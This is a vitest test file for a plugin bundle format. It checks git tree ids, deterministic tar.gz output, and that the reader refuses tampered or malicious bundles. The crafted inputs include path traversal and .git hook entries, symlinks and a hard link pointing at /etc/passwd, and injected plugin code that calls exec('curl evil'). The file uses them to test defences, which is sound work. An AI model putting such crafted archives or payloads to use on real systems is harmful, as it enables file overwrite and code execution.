/**
 * The bundle format in-process (src/pack/bundle/): git object ids against git itself, the
 * deterministic tar writer against system tar and node-tar, and every refusal of the reader on
 * bundles crafted here (traversal, absolute paths, escaping links, hard links, tampering with
 * any single byte, trees that are not the claimed revision).
 */
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync, chmodSync } from "node:fs";
import { join } from "node:path";
import { gunzipSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hashTree } from "../../src/compile/tree-hash.js";
import { HermesError } from "../../src/core/errors.js";
import { materialize, materializeVerified, readBundle } from "../../src/pack/bundle/bundle.js";
import { buildTree, checkProof, objectId, parseTree, type GitFile } from "../../src/pack/bundle/git-objects.js";
import { readRevisionTree } from "../../src/pack/bundle/git-read.js";
import { BUNDLE_FORMAT, serializeManifest, type BundleManifest } from "../../src/pack/bundle/manifest.js";
import { GZIP_HEADER, gzipCanonical, readTarGz, writeTarGz, type TarEntry } from "../../src/pack/bundle/tar.js";
import { cleanupTemp, tempDir } from "../support/home.js";

let dir = "";
beforeAll(() => {
  dir = tempDir("hermes-bundle-fmt-");
});
afterAll(cleanupTemp);

const git = (cwd: string, ...args: string[]) =>
  execFileSync(
    "git",
    [
      "-c",
      "user.name=t",
      "-c",
      "user.email=t@example.com",
      "-c",
      "init.defaultBranch=main",
      "-c",
      "core.autocrlf=false",
      ...args,
    ],
    { cwd, encoding: "utf8" },
  ).trim();

const LONG = `${"deep/".repeat(22)}file-with-a-long-name.txt`;

function sampleFiles(): GitFile[] {
  return [
    { path: "plugin.yaml", mode: "100644", data: Buffer.from("name: demo\nversion: 1.0.0\n") },
    { path: "index.js", mode: "100644", data: Buffer.from("export function register(ctx) {}\n") },
    { path: "bin/run", mode: "100755", data: Buffer.from("#!/bin/sh\necho hi\n") },
    { path: "alias.js", mode: "120000", data: Buffer.from("index.js") },
    { path: "a-b/x.txt", mode: "100644", data: Buffer.from("x") },
    { path: "a/y.txt", mode: "100644", data: Buffer.from("y") },
    { path: "a.c", mode: "100644", data: Buffer.from("") },
    { path: "docs/ünïcode ñame.md", mode: "100644", data: Buffer.from("# hi\n") },
    { path: LONG, mode: "100644", data: Buffer.from("long\n") },
  ];
}

describe("git object ids", () => {
  it("buildTree gives git's own tree id (modes, symlinks, sort order, unicode, long paths)", () => {
    const repo = join(dir, "repo");
    mkdirSync(repo);
    git(repo, "init", "-q");
    for (const f of sampleFiles()) {
      const p = join(repo, f.path);
      mkdirSync(join(p, ".."), { recursive: true });
      if (f.mode === "120000") symlinkSync(f.data!.toString(), p);
      else {
        writeFileSync(p, f.data!);
        chmodSync(p, f.mode === "100755" ? 0o755 : 0o644);
      }
    }
    git(repo, "add", "-A");
    git(repo, "commit", "-q", "-m", "x");
    expect(buildTree(sampleFiles()).root).toBe(git(repo, "rev-parse", "HEAD^{tree}"));
    expect(
      buildTree(
        sampleFiles()
          .filter((f) => f.path.startsWith("a/"))
          .map((f) => ({ ...f, path: f.path.slice(2) })),
      ).root,
    ).toBe(git(repo, "rev-parse", "HEAD:a"));
    const raw = Buffer.from(execFileSync("git", ["cat-file", "commit", "HEAD"], { cwd: repo }));
    expect(objectId("commit", raw)).toBe(git(repo, "rev-parse", "HEAD"));
    const rootRaw = Buffer.from(execFileSync("git", ["cat-file", "tree", "HEAD^{tree}"], { cwd: repo }));
    expect(parseTree(rootRaw).find((e) => e.name === "a")!.sha).toBe(git(repo, "rev-parse", "HEAD:a"));
    expect(
      checkProof({
        revision: git(repo, "rev-parse", "HEAD"),
        tree: git(repo, "rev-parse", "HEAD:a"),
        subdir: "a",
        commit: raw,
        pathTrees: [rootRaw],
      }),
    ).toBeUndefined();
    expect(
      checkProof({
        revision: git(repo, "rev-parse", "HEAD"),
        tree: git(repo, "rev-parse", "HEAD:docs"),
        subdir: "a",
        commit: raw,
        pathTrees: [rootRaw],
      }),
    ).toMatch(/is tree/);
  });
});

describe("deterministic tar.gz", () => {
  const entries = (): TarEntry[] =>
    sampleFiles().map((f) =>
      f.mode === "120000"
        ? { path: `p/${f.path}`, type: "symlink", linkpath: f.data!.toString() }
        : { path: `p/${f.path}`, type: "file", mode: f.mode === "100755" ? 0o755 : 0o644, data: f.data },
    );

  it("same entries in any order give the same bytes, with the canonical gzip header", () => {
    const a = writeTarGz(entries());
    const b = writeTarGz([...entries()].reverse());
    expect(a.equals(b)).toBe(true);
    expect(a.subarray(0, GZIP_HEADER.length).equals(GZIP_HEADER)).toBe(true);
  });

  it("system tar lists it with fixed owner, time and modes; node-tar reads every entry back", async () => {
    const f = join(dir, "t.tar.gz");
    writeFileSync(f, writeTarGz(entries()));
    const listing = execFileSync("tar", ["-tvzf", f], {
      encoding: "utf8",
      env: { ...process.env, TZ: "UTC", LC_ALL: "C" },
    });
    expect(listing).toContain("0/0");
    expect(listing).toContain("1970-01-01 00:00");
    expect(listing).toMatch(/-rwxr-xr-x .* p\/bin\/run/);
    expect(listing).toMatch(/lrwxrwxrwx .* p\/alias\.js -> index\.js/);
    expect(listing).toContain(`p/${LONG}`);
    const read = await readTarGz(readFileSync(f), { maxBytes: 1e8, maxEntries: 1000 });
    const files = read
      .filter((e) => e.type === "File")
      .map((e) => e.path)
      .sort();
    expect(files).toEqual(
      sampleFiles()
        .filter((x) => x.mode !== "120000")
        .map((x) => `p/${x.path}`)
        .sort(),
    );
    // Folders come before their contents.
    const order = read.map((e) => e.path);
    expect(order.indexOf("p/bin/")).toBeLessThan(order.indexOf("p/bin/run"));
  });
});

// ---------------------------------------------------------------------------------------------
// A synthetic but fully valid bundle: a plugin in subdirectory `plugins/demo` of a repository.

interface Built {
  bytes: Buffer;
  manifest: BundleManifest;
  entries: TarEntry[];
  pack: string;
}

async function integrity(files: GitFile[]): Promise<string> {
  const d = mkdtempSync(join(dir, "int-"));
  await materialize(join(d, "p"), files);
  return (await hashTree(join(d, "p"))).integrity;
}

async function validBundle(
  mutate: {
    files?: (f: GitFile[]) => GitFile[];
    manifest?: (m: BundleManifest) => void;
    entries?: (e: TarEntry[]) => TarEntry[];
    pack?: (p: string) => string;
  } = {},
): Promise<Built> {
  const pluginFiles = sampleFiles().filter((f) => f.path !== LONG);
  const sub = buildTree(pluginFiles);
  const other = buildTree([{ path: "README.md", mode: "100644", data: Buffer.from("readme") }]);
  // Root tree: README.md + plugins/ (→ demo/ → the plugin tree)
  const pluginsTree = Buffer.concat([Buffer.from("40000 demo\0"), Buffer.from(sub.root, "hex")]);
  const pluginsId = objectId("tree", pluginsTree);
  const readmeBlob = objectId("blob", Buffer.from("readme"));
  void other;
  const rootTree = Buffer.concat([
    Buffer.from("100644 README.md\0"),
    Buffer.from(readmeBlob, "hex"),
    Buffer.from("40000 plugins\0"),
    Buffer.from(pluginsId, "hex"),
  ]);
  const rootId = objectId("tree", rootTree);
  const commit = Buffer.from(
    `tree ${rootId}\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nrelease\n`,
  );
  const revision = objectId("commit", commit);
  const files = mutate.files ? mutate.files(pluginFiles.map((f) => ({ ...f }))) : pluginFiles;
  let pack =
    "name: synthetic\nplugins:\n  - name: demo\n    repo: acme/mono\n    subdir: plugins/demo\n    " +
    `ref: ${revision}\n`;
  if (mutate.pack) pack = mutate.pack(pack);
  const manifest: BundleManifest = {
    format: BUNDLE_FORMAT,
    pack: { file: "hermes-pack.yaml", sha256: createHash("sha256").update(pack).digest("hex") },
    plugins: [
      {
        name: "demo",
        folder: "demo",
        source: "https://github.com/acme/mono.git#plugins/demo",
        repo: "acme/mono",
        subdir: "plugins/demo",
        revision,
        tree: sub.root,
        integrity: await integrity(pluginFiles),
        files: pluginFiles.length,
        bytes: 0,
        proof: {
          commit: commit.toString("base64"),
          trees: [rootTree.toString("base64"), pluginsTree.toString("base64")],
        },
      },
    ],
  };
  mutate.manifest?.(manifest);
  let entries: TarEntry[] = [
    { path: "hermes-bundle.json", type: "file", data: Buffer.from(serializeManifest(manifest)) },
    { path: "hermes-pack.yaml", type: "file", data: Buffer.from(pack) },
    ...files.map(
      (f): TarEntry =>
        f.mode === "120000"
          ? { path: `plugins/demo/${f.path}`, type: "symlink", linkpath: f.data!.toString() }
          : { path: `plugins/demo/${f.path}`, type: "file", mode: f.mode === "100755" ? 0o755 : 0o644, data: f.data },
    ),
  ];
  if (mutate.entries) entries = mutate.entries(entries);
  return { bytes: writeTarGz(entries), manifest, entries, pack };
}

function save(name: string, bytes: Buffer): string {
  const f = join(dir, name);
  writeFileSync(f, bytes);
  return f;
}

async function refusal(bytes: Buffer, name = "b.tar.gz"): Promise<HermesError> {
  const f = save(name, bytes);
  try {
    const b = await readBundle(f);
    for (const p of b.plugins) await materializeVerified(f, p, `${mkdtempSync(join(dir, "m-"))}/t`);
  } catch (e) {
    if (e instanceof HermesError) return e;
    throw e;
  }
  throw new Error("the bundle was accepted");
}

/** Re-pack a raw tar (changed by a test) in the canonical form (header, checksum). */
function regzip(tar: Buffer): Buffer {
  return gzipCanonical(tar);
}

function tarHeaderChecksum(h: Buffer): void {
  h.write("        ", 148, 8, "ascii");
  let sum = 0;
  for (const b of h.subarray(0, 512)) sum += b;
  h.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148, 8, "ascii");
}

describe("bundle reader", () => {
  it("accepts the valid synthetic bundle: tree proven to be <revision>:plugins/demo, integrity checked", async () => {
    const b = await validBundle();
    const f = save("ok.tar.gz", b.bytes);
    const v = await readBundle(f);
    expect(v.plugins).toHaveLength(1);
    expect(v.plugins[0]!.meta.subdir).toBe("plugins/demo");
    await materializeVerified(f, v.plugins[0]!, join(mkdtempSync(join(dir, "ok-")), "t"));
  });

  it("refuses every single-byte change anywhere in the file, and every truncation", async () => {
    const b = (await validBundle()).bytes;
    const codes = new Set<string>();
    for (let i = 0; i < b.length; i++) {
      const t = Buffer.from(b);
      t[i] = t[i]! ^ 0x01;
      const e = await refusal(t, "flip.tar.gz").catch((x: Error) => {
        throw new Error(`byte ${i} of ${b.length} (0x${b[i]!.toString(16)} → 0x${t[i]!.toString(16)}): ${x.message}`);
      });
      expect(e.code, `byte ${i}`).toMatch(/^E_BUNDLE_/);
      codes.add(e.code);
    }
    for (const n of [0, 10, Math.floor(b.length / 2), b.length - 4, b.length - 1]) {
      const e = await refusal(b.subarray(0, n), "cut.tar.gz");
      expect(e.code, `truncated at ${n}`).toBe("E_BUNDLE_CORRUPT");
    }
    expect([...codes]).toEqual(["E_BUNDLE_CORRUPT"]);
  });

  it("a re-compressed bundle (other gzip header) is refused", async () => {
    const b = (await validBundle()).bytes;
    const e = await refusal(gzipSync(gunzipSync(b), { level: 6 }));
    expect(e.code).toBe("E_BUNDLE_CORRUPT");
    expect(e.message).toContain("gzip header");
  });

  it("path traversal, absolute paths, .git and control characters are refused by name", async () => {
    for (const [path, why] of [
      ["plugins/demo/../../../../tmp/evil.txt", /path traversal/],
      ["plugins/demo/./x", /'\.' or '\.\.' segment/],
      ["plugins/demo/.git/hooks/post-checkout", /inside a \.git folder/],
      ["plugins/demo/a\\b", /backslash/],
    ] as const) {
      const bad = await validBundle({ entries: (e) => [...e, { path, type: "file", data: Buffer.from("x") }] });
      const err = await refusal(bad.bytes);
      expect(err.code, path).toBe("E_BUNDLE_UNSAFE_ENTRY");
      expect(err.message, path).toMatch(why);
      expect(err.message).toContain("nothing was installed");
    }
    // An absolute path: written by hand (the writer would make parent folders of it).
    const tar = gunzipSync((await validBundle()).bytes);
    const abs = Buffer.from(tar);
    const at = abs.indexOf(Buffer.from("hermes-pack.yaml\0"));
    abs.write("/etc/hermes-pack", at, "ascii");
    tarHeaderChecksum(abs.subarray(at));
    const err = await refusal(regzip(abs));
    expect(err.code).toBe("E_BUNDLE_UNSAFE_ENTRY");
    expect(err.message).toContain("absolute path");
  });

  it(
    "symlinks leaving the plugin folder, absolute link " + "targets, paths through links and hard links are refused",
    async () => {
      for (const [link, why] of [
        ["../../../etc", /leaves its plugin folder/],
        ["../other-plugin/x", /leaves its plugin folder/],
        ["/etc/passwd", /absolute or empty target/],
      ] as const) {
        const bad = await validBundle({
          entries: (e) => [...e, { path: "plugins/demo/escape", type: "symlink", linkpath: link }],
        });
        const err = await refusal(bad.bytes);
        expect(err.code, link).toBe("E_BUNDLE_UNSAFE_ENTRY");
        expect(err.message, link).toMatch(why);
      }
      const through = await validBundle({
        entries: (e) => [
          ...e,
          { path: "plugins/demo/sub", type: "symlink", linkpath: "bin" },
          { path: "plugins/demo/sub/x", type: "file", data: Buffer.from("x") },
        ],
      });
      expect((await refusal(through.bytes)).message).toMatch(/goes through the symlink/);
      // A hard link: the type flag of a file header changed to '1' with a link name.
      const tar = Buffer.from(gunzipSync((await validBundle()).bytes));
      const at = tar.indexOf(Buffer.from("plugins/demo/index.js\0"));
      tar.write("1", at + 156, "ascii");
      tar.write("../../../../etc/passwd", at + 157, "ascii");
      tar.write("00000000000\0", at + 124, "ascii");
      tarHeaderChecksum(tar.subarray(at));
      const err = await refusal(regzip(tar));
      expect(err.code).toMatch(/E_BUNDLE_(UNSAFE_ENTRY|CORRUPT)/);
    },
  );

  it(
    "a file outside the listed plugins, a pack that does " + "not match its hash, a manifest that is not JSON",
    async () => {
      const extra = await validBundle({
        entries: (e) => [...e, { path: "plugins/stowaway/index.js", type: "file", data: Buffer.from("x") }],
      });
      expect((await refusal(extra.bytes)).message).toContain("not part of any plugin listed in the manifest");
      const packChanged = await validBundle({
        entries: (e) =>
          e.map((x) =>
            x.path === "hermes-pack.yaml" ? { ...x, data: Buffer.from(`${x.data!.toString()}# more\n`) } : x,
          ),
      });
      expect((await refusal(packChanged.bytes)).code).toBe("E_BUNDLE_INTEGRITY");
      const notJson = await validBundle({
        entries: (e) => e.map((x) => (x.path === "hermes-bundle.json" ? { ...x, data: Buffer.from("{nope") } : x)),
      });
      expect((await refusal(notJson.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
      const noManifest = await validBundle({ entries: (e) => e.filter((x) => x.path !== "hermes-bundle.json") });
      expect((await refusal(noManifest.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
    },
  );

  it(
    "changed plugin files are refused even when the attacker also fixes the integrity: the git tree no longer " +
      "matches",
    async () => {
      const changed = await validBundle({
        files: (f) =>
          f.map((x) =>
            x.path === "index.js"
              ? { ...x, data: Buffer.from("import('child_process').then(c => c.exec('curl evil'))\n") }
              : x,
          ),
      });
      const e = await refusal(changed.bytes);
      expect(e.code).toBe("E_BUNDLE_REVISION");
      expect(e.message).toMatch(/form git tree [0-9a-f]{40}, not [0-9a-f]{40}/);
    },
  );

  it("a consistent tree that is not the claimed revision is refused by the proof", async () => {
    const otherFiles = sampleFiles()
      .filter((f) => f.path !== LONG)
      .map((f) => (f.path === "index.js" ? { ...f, data: Buffer.from("// other\n") } : f));
    const b = await validBundle({
      files: () => otherFiles,
      manifest: (m) => {
        m.plugins[0]!.tree = buildTree(otherFiles).root;
      },
    });
    const e = await refusal(b.bytes);
    expect(e.code).toBe("E_BUNDLE_REVISION");
    expect(e.message).toContain("is not proven to be");
  });

  it("a wrong integrity in the manifest is refused after materializing", async () => {
    const b = await validBundle({
      manifest: (m) => {
        m.plugins[0]!.integrity = `sha256-tree:${"0".repeat(64)}`;
      },
    });
    const e = await refusal(b.bytes);
    expect(e.code).toBe("E_BUNDLE_INTEGRITY");
  });

  it("a pack entry without a tree, and a tree without a pack entry, are refused", async () => {
    const extraEntry = await validBundle({ pack: (p) => `${p}  - repo: acme/other\n    ref: ${"a".repeat(40)}\n` });
    expect((await refusal(extraEntry.bytes)).message).toContain("have no plugin tree in the bundle");
    const wrongRef = await validBundle({ pack: (p) => p.replace(/ref: [0-9a-f]{40}/, `ref: ${"b".repeat(40)}`) });
    expect((await refusal(wrongRef.bytes)).message).toContain("is not an entry of hermes-pack.yaml");
  });
});

describe("reading a revision out of an installed checkout", () => {
  it("a folder without .git, or a checkout without the recorded commit, cannot be bundled (named)", async () => {
    const plain = join(dir, "plain");
    mkdirSync(plain);
    writeFileSync(join(plain, "plugin.yaml"), "name: plain\n");
    await expect(readRevisionTree(plain, "a".repeat(40), undefined)).rejects.toMatchObject({
      code: "E_BUNDLE_EXPORT_SOURCE",
      message: expect.stringContaining("not a git checkout"),
    });
    const repo = join(dir, "repo2");
    mkdirSync(repo);
    git(repo, "init", "-q");
    writeFileSync(join(repo, "plugin.yaml"), "name: r\n");
    git(repo, "add", "-A");
    git(repo, "commit", "-q", "-m", "x");
    await expect(readRevisionTree(repo, "b".repeat(40), undefined)).rejects.toMatchObject({
      code: "E_BUNDLE_EXPORT_SOURCE",
      message: expect.stringContaining("does not hold the recorded commit"),
    });
    await expect(readRevisionTree(repo, git(repo, "rev-parse", "HEAD"), "no/such")).rejects.toMatchObject({
      code: "E_BUNDLE_EXPORT_SOURCE",
    });
    const ok = await readRevisionTree(repo, git(repo, "rev-parse", "HEAD"), undefined);
    expect(ok.tree).toBe(git(repo, "rev-parse", "HEAD^{tree}"));
    expect(ok.files.map((f) => f.path)).toEqual(["plugin.yaml"]);
  });
});
